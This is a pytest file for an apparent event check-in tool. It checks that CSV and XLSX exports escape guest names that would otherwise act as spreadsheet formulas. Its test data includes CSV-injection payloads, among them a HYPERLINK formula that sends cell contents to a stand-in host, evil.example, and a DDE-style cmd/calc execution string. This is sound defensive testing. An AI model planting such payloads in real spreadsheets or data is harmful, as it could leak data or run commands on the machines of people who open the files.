"""Check-ins exported to CSV and XLSX stay inert text whatever the guests are
called: no formulas (OWASP's CSV injection), no control characters that break XLSX."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pytestqt.qtbot import QtBot

from doorcheck.cli import main as doorcheck
from doorcheck.connectors.spreadsheet import write_export

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+49 30 1234", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\tindented=1", "\r=1+1", "\x01=2+2",
           "plain"]  # fmt: skip


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def read_xlsx(path: Path) -> list[list[Any]]:
    # Not data_only: a formula would show as data_type "f" with its text.
    book = openpyxl.load_workbook(path)
    return [list(row) for row in book.worksheets[0].iter_rows()]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cells_that_would_be_formulas_are_written_as_text(tmp_path: Path, suffix: str) -> None:
    path = write_export([HOSTILE], tmp_path / f"out{suffix}")
    if suffix == ".csv":
        written = read_csv(path)[1]
    else:
        cells = read_xlsx(path)[1][: len(HOSTILE)]
        assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
        # XML reads a carriage return back as a line feed; it is text either way.
        written = [str(cell.value).replace("\n", "\r") for cell in cells]
    assert written == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'+49 30 1234", "'-2+3",
        "'@SUM(1+1)*cmd|' /C calc'!A0", "'\tindented=1", "'\r=1+1", "'=2+2", "plain",
    ]  # fmt: skip


def test_every_csv_cell_is_quoted(tmp_path: Path) -> None:
    path = write_export([["a;b", "c,d", "plain"]], tmp_path / "out.csv")
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1] == '"a;b","c,d","plain"'


def test_the_export_command_writes_hostile_names_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    guest_list = tmp_path / "list.csv"
    with guest_list.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Code", "First name", "Last name", "Company"])
        writer.writerow(["T-1", "=1+1", "@cmd\x02", "-Evil Corp"])
    data = ["--data", str(tmp_path / "door")]
    assert doorcheck(["import", str(guest_list), *data]) == 0
    assert doorcheck(["checkin", "T-1", *data]) == 0
    for name in ("out.csv", "out.xlsx"):
        assert doorcheck(["export", "--out", str(tmp_path / name), *data]) == 0
    capsys.readouterr()
    assert read_csv(tmp_path / "out.csv")[1][:4] == ["T-1", "'=1+1", "'@cmd", "'-Evil Corp"]
    cells = read_xlsx(tmp_path / "out.xlsx")[1][:4]
    assert [(c.data_type, c.value) for c in cells] == [
        ("s", "T-1"), ("s", "'=1+1"), ("s", "'@cmd"), ("s", "'-Evil Corp")]  # fmt: skip


def test_the_windows_statistics_export_writes_hostile_names_as_text(
    tmp_path: Path, qtbot: QtBot
) -> None:
    from doorcheck.app import export_check_ins
    from tests.support.kiosk import open_kiosk

    guest_list = tmp_path / "list.csv"
    with guest_list.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Code", "First name", "Last name"])
        writer.writerow(["T-1", '=HYPERLINK("http://evil.example","x")', "+1\x07"])
    data = tmp_path / "door"
    assert doorcheck(["import", str(guest_list), "--data", str(data)]) == 0
    with open_kiosk(qtbot, data, str(tmp_path / "no-camera")) as kiosk:
        kiosk.scan("T-1", "scanner")
        written: list[Path] = []
        for name in ("w.csv", "w.xlsx"):
            export_check_ins(kiosk, tmp_path / name, written.append)
        qtbot.waitUntil(lambda: len(written) == 2, timeout=10_000)  # written off the GUI thread
    assert sorted(written) == [tmp_path / "w.csv", tmp_path / "w.xlsx"]
    expected = ["T-1", '\'=HYPERLINK("http://evil.example","x")', "'+1"]
    assert read_csv(tmp_path / "w.csv")[1][:3] == expected
    assert [c.value for c in read_xlsx(tmp_path / "w.xlsx")[1][:3]] == expected
